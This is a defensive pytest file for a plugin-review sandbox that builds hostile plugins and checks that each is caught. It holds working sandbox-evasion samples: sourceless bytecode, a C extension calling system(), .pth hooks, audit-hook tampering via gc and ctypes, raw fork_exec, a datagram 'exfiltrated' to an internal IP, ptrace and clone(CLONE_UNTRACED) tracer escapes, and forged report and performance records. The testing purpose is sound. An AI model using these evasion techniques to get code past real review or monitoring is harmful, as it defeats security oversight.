"""Hostile plugins, built here, each trying one way past the checks (issue 12). Each must be
caught: the finding names what was done, and it is one the gate blocks on (a critical finding,
or an open high/critical behaviour finding: the enforced policy no-serious-sandbox-behaviour).

Plugins that run only ever run inside bubblewrap: those tests skip where bwrap is missing.
"""

import importlib.util
import json
import os
import py_compile
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from decisions.management.commands.load_demo import EXPORTER, NOTIFIER_2, TELEMETRY
from governance.models import HostPlatform
from reviews.checks import CheckContext
from reviews.checks.behaviour import behaviour
from reviews.checks.eligibility import python_compiles
from reviews.checks.performance import performance_harness
from reviews.sandbox import runner
from reviews.sandbox.runner import SandboxError, isolation_available
from reviews.sandbox.tracer import tracer_available
from submissions.samples import PLUGIN_SOURCE
from tests.reviews.test_sandbox import TEST_LIMITS, manifest

needs_bwrap = pytest.mark.skipif(not isolation_available(), reason="bubblewrap (bwrap) is not installed")
MARKER = "HOSTILE-CODE-RAN"
HOSTILE = f"""
import os
print("{MARKER}", flush=True)
os.system("id")
exec("import socket")
dict(os.environ)

class Plugin:
    pass
"""
HONEST = "class Plugin:\n    pass\n"


@pytest.fixture(autouse=True)
def small_limits(settings):
    settings.WARDEN_SANDBOX_LIMITS = TEST_LIMITS


def plugin(tmp_path: Path, files: dict[str, bytes | str]) -> Path:
    root = tmp_path / "plugin"
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def compiled(tmp_path: Path, source: str, *, as_name: str, unchecked: bool = False) -> bytes:
    """Bytecode of ``source`` whose code objects claim to come from ``as_name``."""
    src = tmp_path / "scratch.py"
    src.write_text(source)
    target = tmp_path / "scratch.pyc"
    mode = py_compile.PycInvalidationMode.UNCHECKED_HASH if unchecked else py_compile.PycInvalidationMode.TIMESTAMP
    py_compile.compile(str(src), cfile=str(target), dfile=as_name, doraise=True, invalidation_mode=mode)
    return target.read_bytes()


def eligibility(root: Path, **manifest_extra):
    data = manifest()
    data.update(manifest_extra)
    return python_compiles(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))


def behave(root: Path, **manifest_extra):
    data = manifest()
    data.update(manifest_extra)
    return behaviour(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))


def by_rule(outcome, rule: str):
    found = [f for f in outcome.findings if f.rule_id == rule]
    assert found, [(f.rule_id, f.title) for f in outcome.findings]
    return found[0]


def blocks_the_gate(finding) -> bool:
    """no-open-critical-findings, or no-serious-sandbox-behaviour."""
    return finding.severity == "critical" or (finding.kind == "behaviour" and finding.severity == "high")


def printed(outcome) -> str:
    return json.loads(outcome.report)["output"]


# 1. Nothing runs that was not read.


def test_a_sourceless_pyc_with_a_standard_library_name_is_refused_and_never_runs(tmp_path):
    root = plugin(tmp_path, {"probe.pyc": compiled(tmp_path, HOSTILE, as_name="/usr/lib/python3.11/json/decoder.py")})

    refused = by_rule(eligibility(root), "eligibility.bytecode")

    assert "probe.pyc" in refused.title and refused.data["files"] == ["probe.pyc"]
    assert blocks_the_gate(refused) and not eligibility(root).passed
    if isolation_available():
        outcome = behave(root)
        crash = by_rule(outcome, "behaviour.crash")
        assert "bytecode without its source is never run" in crash.message
        assert MARKER not in printed(outcome) and not outcome.passed


def test_a_shipped_pycache_that_shadows_honest_source_is_refused_and_the_source_runs(tmp_path):
    tag = importlib.util.cache_from_source("probe.py").split("/", 1)[1]  # probe.cpython-311.pyc
    root = plugin(
        tmp_path,
        {"probe.py": HONEST, f"__pycache__/{tag}": compiled(tmp_path, HOSTILE, as_name="probe.py", unchecked=True)},
    )

    refused = by_rule(eligibility(root), "eligibility.bytecode")

    assert "__pycache__/" in refused.title and refused.severity == "critical"
    if isolation_available():
        outcome = behave(root)
        assert MARKER not in printed(outcome)  # the reviewed source ran, not the shipped bytecode
        assert list(outcome.findings) == []


C_EXTENSION = r"""
#include <stdlib.h>
void *PyInit_probe(void) { system("id; echo NATIVE-RAN"); return 0; }
"""


@pytest.fixture
def native_probe(tmp_path):
    if shutil.which("gcc") is None:
        pytest.skip("no C compiler")
    source = tmp_path / "probe.c"
    source.write_text(C_EXTENSION)
    target = tmp_path / ("probe" + importlib.machinery.EXTENSION_SUFFIXES[0])
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(target), str(source)], check=True)  # noqa: S603, S607
    return target


def test_an_undeclared_c_extension_is_refused_and_never_loads(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes()})

    refused = by_rule(eligibility(root), "eligibility.native-code")

    assert native_probe.name in refused.title and blocks_the_gate(refused)
    if isolation_available():
        outcome = behave(root)
        assert "native code the manifest does not declare" in by_rule(outcome, "behaviour.crash").message
        assert "NATIVE-RAN" not in printed(outcome)


def test_declared_native_code_is_flagged_for_human_review_with_the_file_list(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes(), "disguised.dat": b"\x7fELF\x02\x01\x01"})

    outcome = eligibility(root, native={"reason": "a fast parser"})

    flagged = by_rule(outcome, "eligibility.native-code-review")
    assert flagged.severity == "medium" and flagged.data["files"] == ["disguised.dat", native_probe.name]
    assert outcome.passed  # a human reviewer decides, with the list in front of them


@pytest.mark.parametrize(
    ("files", "rule", "named"),
    [
        ({"probe.py": HONEST, "boot.pth": "import os; os.system('id')\n"}, "eligibility.pth-file", "boot.pth"),
        ({"probe.py": HONEST, "vendor/lib.egg": b"PK\x05\x06" + b"\0" * 18}, "eligibility.nested-archive", "lib.egg"),
        ({"probe.py": HONEST, "data/blob.bin": b"PK\x03\x04rest"}, "eligibility.nested-archive", "blob.bin"),
    ],
    ids=["pth", "egg", "zip-renamed"],
)
def test_pth_files_and_importable_archives_are_refused(tmp_path, files, rule, named):
    outcome = eligibility(plugin(tmp_path, files))

    refused = by_rule(outcome, rule)
    assert named in refused.title and blocks_the_gate(refused) and not outcome.passed


@needs_bwrap
def test_code_in_a_zip_the_plugin_puts_on_sys_path_is_not_imported(tmp_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("evilmod.py", HOSTILE)
    loader = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'evil.zip'))\n"
    root = plugin(tmp_path, {"probe.py": loader + "import evilmod\n" + HONEST, "evil.zip": archive.read_bytes()})

    outcome = behave(root)

    assert "No module named 'evilmod'" in by_rule(outcome, "behaviour.crash").message
    assert MARKER not in printed(outcome)


def test_an_honest_plugin_raises_nothing_new_in_eligibility(tmp_path):
    root = plugin(tmp_path, {"probe.py": HONEST, "docs/USAGE.md": "words " * 40, "plugin.toml": "[plugin]\n"})

    outcome = eligibility(root)

    assert outcome.passed and list(outcome.findings) == []


# 2. The report channel and the harness's end record.


@needs_bwrap
def test_a_forged_end_record_followed_by_an_early_exit_is_capture_evaded(tmp_path):
    forge = (
        "import json, os, sys\n"
        "fd = json.loads(sys.argv[1])['report_fd']\n"
        "os.system('id')\n"
        'os.write(fd, b\'{"type": "result", "phase": "done", "cpu_ms": 1.0, "peak_rss_kb": 1000}\\n\')\n'
        "os._exit(0)\n"
    )
    outcome = behave(plugin(tmp_path, {"probe.py": forge + HONEST}))

    evaded = by_rule(outcome, "behaviour.capture-evaded")
    assert "end record the harness did not write" in evaded.title
    assert blocks_the_gate(evaded) and not outcome.passed


# 2b. Behaviour observed where the plugin cannot reach: the system-call tracer (tracer.py).

needs_tracer = pytest.mark.skipif(
    not (isolation_available() and tracer_available()), reason="bubblewrap (bwrap) or strace is not installed"
)
# Each evasion of the audit hook the issue lists, as its own plugin, and what must name it.
EVASIONS = {
    "getframe": (
        "import os, sys\nsys._getframe = lambda *args: None\nos.system('id')\n",
        "behaviour.undeclared-subprocess",
        "Started a process: id",
    ),
    "gc-handlers": (
        "import gc, os\n"
        "for o in gc.get_objects():\n"
        "    if isinstance(o, dict) and 'socket.connect' in o and 'open' in o:\n"
        "        o.clear()\n"
        "os.system('id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "busy-flag": (
        "import gc, os\n"
        "for o in gc.get_objects():\n"
        "    if type(o).__name__ == 'Behaviour':\n"
        "        o.local.busy = True\n"
        "os.system('id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "relabelled-code": (
        "import os\n"
        "class Plugin:\n"
        "    def __init__(self):\n"
        "        os.system('id')\n"
        "Plugin.__init__.__code__ = Plugin.__init__.__code__.replace(co_filename='/usr/lib/python3/json/decoder.py')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "ctypes-pythonapi": (
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('id')\")\n",
        "behaviour.dynamic-code",
        "ctypes: PyRun_SimpleString",
    ),
    "ctypes-libc-system": (
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "posixsubprocess-fork-exec": (
        "import _posixsubprocess, os\n"
        "r, w = os.pipe()\n"
        "pid = _posixsubprocess.fork_exec([b'/usr/bin/id'], [b'/usr/bin/id'], True, (w,), None, None,\n"
        "    -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n"
        "os.waitpid(pid, 0)\n",
        "behaviour.capture-evaded",
        "execve /usr/bin/id /usr/bin/id, a process the audit hook did not report",
    ),
    "sendmsg-datagram": (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendmsg([b'exfiltrated'], [], 0, ('10.1.2.3', 9))\n"
        "except OSError:\n"
        "    pass\n",
        "behaviour.undeclared-network",
        "Network access to 10.1.2.3:9 is not declared",
    ),
    "bind-listen": (
        "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 8080))\nserver.listen()\n",
        "behaviour.undeclared-network",
        "Bound a socket to 127.0.0.1:8080, undeclared",
    ),
    "environb": (
        "import os\nseen = dict(os.environb)\n",
        "behaviour.environment-enumeration",
        "Read the whole environment",
    ),
    "posix-environ": (
        "import posix\nhome = posix.environ[b'HOME']\n",
        "behaviour.environment-evasion",
        "Read the variable HOME through posix.environ",
    ),
    "exec-compiled-ast": (
        "import ast\nexec(compile(ast.parse(\"import os; os.system('id')\"), 'x', 'exec'))\n",
        "behaviour.dynamic-code",
        "ast: import os",
    ),
}


def _hostile(source: str) -> str:
    return source if "class Plugin" in source else source + HONEST


@needs_tracer
@pytest.mark.parametrize("case", list(EVASIONS), ids=list(EVASIONS))
def test_each_evasion_of_the_audit_hook_is_caught_and_named(tmp_path, case):
    source, rule, named = EVASIONS[case]

    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(source)}))

    caught = [f for f in outcome.findings if f.rule_id == rule and named in f.title]
    assert caught, [(f.rule_id, f.title) for f in outcome.findings]
    assert blocks_the_gate(caught[0]) and not outcome.passed
    assert outcome.summary["tracer"] == "strace"


@needs_tracer
@pytest.mark.parametrize("case", ["gc-handlers", "busy-flag"])
def test_a_silenced_hook_is_itself_a_finding(tmp_path, case):
    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(EVASIONS[case][0])}))

    titles = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert "Capture evaded: the audit hook stopped reporting: the harness's end-of-run check went unrecorded" in titles
    assert not any("/usr/bin/id" in title for title in titles)  # what the hidden shell ran is reported with it


@needs_tracer
def test_the_tracer_sees_the_datagram_and_the_listening_socket_the_hook_reports(tmp_path):
    source = EVASIONS["sendmsg-datagram"][0] + EVASIONS["bind-listen"][0]

    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(source)}))

    traced = {(e["syscall"], e["target"]) for e in json.loads(outcome.report)["traced"]}
    assert {("sendmsg", "10.1.2.3:9"), ("bind", "127.0.0.1:8080"), ("listen", "127.0.0.1:8080")} <= traced
    assert not [f for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]  # the hook reported them


@needs_tracer
def test_declared_native_code_passes_eligibility_but_its_exec_is_seen(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes()})
    assert eligibility(root, native={"reason": "a fast parser"}).passed  # for a human reviewer

    outcome = behave(root, native={"reason": "a fast parser"})

    evaded = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert "Capture evaded: execve /bin/sh sh -c id; echo NATIVE-RAN, a process the audit hook did not report" in evaded
    assert "NATIVE-RAN" in printed(outcome) and not outcome.passed


SHELL_FORGES_RECORDS = """
import json, os, sys
fd = json.loads(sys.argv[1])["report_fd"]
os.dup2(fd, 9)  # the harness made it close-on-exec; a duplicate is not
os.system("echo '{\\"type\\": \\"canary\\", \\"nonce\\": \\"x\\"}' >&9")
"""


@needs_tracer
def test_a_report_channel_written_by_a_program_the_plugin_ran_is_capture_evaded(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": SHELL_FORGES_RECORDS + HONEST}))

    evaded = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert any(
        t.startswith("Capture evaded: the report channel written by execve /bin/sh sh -c echo") for t in evaded
    ), [(f.rule_id, f.title) for f in outcome.findings]
    assert not outcome.passed


TRACER_ESCAPES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
traceme = libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: already traced, refused
try:
    os.kill(1, 9)  # the sandbox's init; the tracer is not even in this PID namespace
    killed = "yes"
except OSError as error:
    killed = error.errno
status = open("/proc/self/status").read()
tracer = [line for line in status.splitlines() if line.startswith("TracerPid:")][0]
print("TRACEME", traceme, "KILL", killed, tracer, flush=True)
child = libc.syscall(56, 17 | 0x00800000, 0, 0, 0, 0)  # clone(SIGCHLD | CLONE_UNTRACED)
if child == 0:
    try:
        os.execv("/usr/bin/id", ["id"])
    except OSError as error:
        os._exit(error.errno)  # it cannot even write: write(2) is traced too
    os._exit(0)
print("UNTRACED-EXEC", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), flush=True)
libc.prctl(38, 1, 0, 0, 0)  # no new privileges, then a seccomp filter of its own
libc.prctl(22, 1, 0, 0, 0)
"""


@needs_tracer
def test_the_traced_tree_cannot_detach_kill_or_leave_the_tracer(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": TRACER_ESCAPES + HONEST}))

    output = printed(outcome)
    assert "TRACEME -1 KILL 1 TracerPid:\t0" in output  # refused, refused, and the tracer is out of sight
    assert "UNTRACED-EXEC 38" in output  # ENOSYS: a child hidden from the tracer can make no traced call
    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
    assert {
        "Capture evaded: ptrace(PTRACE_TRACEME) (failed), a way around the tracer",
        "Capture evaded: clone(CLONE_UNTRACED): a child hidden from the tracer, a way around the tracer",
    } <= evaded
    assert any("prctl(PR_SET_SECCOMP)" in title for title in evaded)


def _demo_plugin(tmp_path: Path, name: str, files: dict[str, bytes]) -> tuple[Path, dict]:
    module = name.replace("-", "_")
    root = plugin(tmp_path / name, {f"{module}/__init__.py": b"", f"{module}/plugin.py": PLUGIN_SOURCE, **files})
    data = manifest(benchmark=f"{module}.plugin:bench" if b"def bench" in files.get(f"{module}/plugin.py", b"") else "")
    data["plugin"]["entrypoint"] = f"{module}.plugin:Plugin"
    return root, data


@needs_tracer
@pytest.mark.parametrize(
    ("name", "files"),
    [
        ("acme-sample", {}),
        ("acme-exporter", {"acme_exporter/plugin.py": EXPORTER.format(seconds=0.002).encode()}),
        ("acme-notifier", NOTIFIER_2),
        ("globex-reporter", TELEMETRY),
        ("acme-shell", {"acme_shell/plugin.py": b"import subprocess\nclass Plugin:\n    def __init__(self):\n"
                        b"        subprocess.run(['id'], check=False)\n        subprocess.run('echo hi > /tmp/x', "
                        b"shell=True)\n"}),
        ("acme-forker", {"acme_forker/plugin.py": b"import os\nclass Plugin:\n    def __init__(self):\n"
                         b"        child = os.fork()\n        if child == 0:\n"
                         b"            open('/tmp/from-child', 'w')\n            open('/usr/lib/cannot-write', 'w')\n"
                         b"        else:\n            os.waitpid(child, 0)\n"}),
    ],
    ids=["sample", "exporter", "notifier", "telemetry", "subprocess-declared", "forking"],
)  # fmt: skip
def test_the_demo_plugins_raise_the_same_findings_with_the_tracer_as_without(tmp_path, name, files, monkeypatch):
    root, data = _demo_plugin(tmp_path, name, files)
    if name == "acme-shell":
        data["permissions"]["subprocess"] = True
    context = CheckContext(version_id=0, plugin_id=0, manifest=data, root=root)

    traced = behaviour(context)
    monkeypatch.setattr(runner.tracer, "tracer_available", lambda: False)
    untraced = behaviour(context)

    assert traced.summary["tracer"] == "strace" and untraced.summary["tracer"] == "none"
    assert sorted((f.rule_id, f.title) for f in traced.findings) == sorted(
        (f.rule_id, f.title) for f in untraced.findings
    )
    assert not [f for f in traced.findings if f.rule_id == "behaviour.capture-evaded"]


# 3. Performance measured from outside the plugin's process.

FORGED_PERFORMANCE = """
import __main__, json, os, sys, time

block = bytearray(120 * 1024 * 1024)  # 120 MB, touched
for i in range(0, len(block), 4096):
    block[i] = 1
deadline = time.process_time() + 0.4
while time.process_time() < deadline:  # 400 ms of CPU
    pass
__main__.usage = lambda: {"cpu_ms": 5.0, "peak_rss_kb": 9000}  # what the harness will report
fd = json.loads(sys.argv[1])["report_fd"]
for threads in (1, 2):
    record = {"type": "round", "threads": threads, "round": 0, "latencies_ms": [0.2] * 10, "seconds": 0.005}
    os.write(fd, (json.dumps(record) + "\\n").encode())


class Plugin:
    pass


def bench():
    time.sleep(0.02)
"""


@needs_bwrap
def test_forged_cpu_memory_latency_and_throughput_are_a_critical_finding_and_not_shown(tmp_path, settings, db):
    HostPlatform.objects.create(name="Host", api_version="2.4", is_default=True, resource_limits={})
    settings.WARDEN_PERFORMANCE = {"startup_runs": 1, "warmup_calls": 0, "rounds": 1, "calls_per_round": 10}
    root = plugin(tmp_path, {"probe.py": FORGED_PERFORMANCE})
    data = manifest(benchmark="probe:bench")
    data["plugin"]["category"] = "data-connector"

    outcome = performance_harness(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))

    forged = by_rule(outcome, "performance.forged-measurement")
    contradictions = " ".join(forged.data["contradictions"])
    assert "CPU time reported 5.0 ms" in contradictions and "peak RSS reported 8.8 MB" in contradictions
    assert "round figures written from inside the plugin's process" in contradictions
    assert forged.severity == "critical" and not outcome.passed
    shown = {(m["kpi"], m["concurrency"]): m["value"] for m in outcome.metrics}
    assert shown[("cpu_ms", None)] >= 400 and shown[("peak_rss_mb", None)] >= 120  # the kernel's figures
    typical = min(threads for kpi, threads in shown if kpi == "latency_p50_ms")
    assert shown[("latency_p50_ms", typical)] >= 20  # the runner's clock, not the forged 0.2 ms
    assert shown[("throughput_rps", typical)] <= typical * 50  # at most one call per 20 ms a thread


# 4. No isolation is never silent.


@pytest.fixture
def unisolated(settings):
    settings.WARDEN_SANDBOX_BWRAP = "/nonexistent/bwrap"
    settings.WARDEN_SANDBOX_ALLOW_UNISOLATED = True
    isolation_available.cache_clear()
    yield
    isolation_available.cache_clear()


UNISOLATED = "import os\nprint(os.getuid(), dict(os.environ))\n" + HONEST


def test_allowed_without_isolation_it_runs_with_an_empty_environment_and_says_so(tmp_path, unisolated, monkeypatch):
    monkeypatch.setenv("WARDEN_HOSTILE_SECRET", "s3cret")
    monkeypatch.setattr(runner, "_user", lambda: {})  # a developer's laptop: the worker is not root

    outcome = behave(plugin(tmp_path, {"probe.py": UNISOLATED}))

    finding = by_rule(outcome, "behaviour.unisolated")
    assert finding.title == "Ran without isolation" and blocks_the_gate(finding)
    assert not outcome.passed and outcome.summary["isolation"] == "none"
    output = printed(outcome)
    assert "s3cret" not in output and "DJANGO_SETTINGS_MODULE" not in output and "PATH" not in output


@pytest.mark.skipif(os.getuid() != 0, reason="the worker is not root: there is no user to drop to")
def test_allowed_without_isolation_a_root_worker_runs_plugin_code_as_the_sandbox_user_or_not_at_all(
    tmp_path, unisolated, settings
):
    root = plugin(tmp_path, {"probe.py": UNISOLATED})
    if not runner._reachable(Path(os.path.realpath(sys.base_prefix))):
        with pytest.raises(SandboxError, match="never as root"):
            behave(root)
        return

    outcome = behave(root)

    assert printed(outcome).startswith(f"{settings.WARDEN_SANDBOX_UID} ")
    assert by_rule(outcome, "behaviour.unisolated").severity == "high"
